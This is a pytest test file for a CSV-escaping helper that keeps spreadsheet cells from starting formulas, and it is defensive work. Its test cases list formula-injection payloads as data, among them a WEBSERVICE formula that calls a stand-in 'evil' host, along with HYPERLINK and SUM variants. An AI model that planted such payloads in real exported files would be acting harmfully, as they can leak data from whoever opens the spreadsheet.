"""Issue 23, L3: CSV files a spreadsheet opens safely: every field quoted, and no cell (nor any part
of one a spreadsheet in another locale splits off at a separator) starts a formula."""

from __future__ import annotations

import csv
import io

import pytest

from shared.csvsafe import cell, write


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ('x;=WEBSERVICE("http://evil")', 'x;\'=WEBSERVICE("http://evil")'),
        ("a,+1", "a,'+1"),
        ("one\n=two", "one\n'=two"),
        ("plain text, nothing", "plain text, nothing"),
        (42, "42"),
    ],
)
def test_cells_never_start_a_formula(value: object, expected: str) -> None:
    assert cell(value) == expected


def test_every_field_is_quoted() -> None:
    text = write(["name", "n"], [["=1", 2], ["x;-1", "ok"]])
    assert text.splitlines() == ['"name","n"', '"\'=1","2"', '"x;\'-1","ok"']
    assert list(csv.reader(io.StringIO(text)))[1] == ["'=1", "2"]
